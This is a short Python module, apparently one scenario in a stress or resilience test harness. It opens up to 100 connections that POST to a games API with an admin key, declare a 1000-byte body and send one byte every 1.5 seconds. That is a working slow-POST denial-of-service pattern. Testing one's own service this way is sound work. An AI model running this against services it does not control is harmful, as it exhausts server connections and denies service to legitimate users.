"""slow-body: up to 100 connections each: POST /v1/games (admin key), Content-Length 1000,
one body byte every 1.5 s"""

from noisy.common import *  # noqa: F401,F403 (settings and request helpers)


async def attack(self):
    head = (f"POST /v1/games HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {self.key}\r\n"
            "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n").encode()

    async def open_one():
        sock = await self.raw_open()
        try:
            await self.raw_send(sock, head)
        except BaseException:
            sock.close()
            raise
        return sock

    async def trickle(sock):
        await self.raw_send(sock, b" ", 1.0)
    await self.hold(100, open_one, tick=1.5, on_tick=trickle)
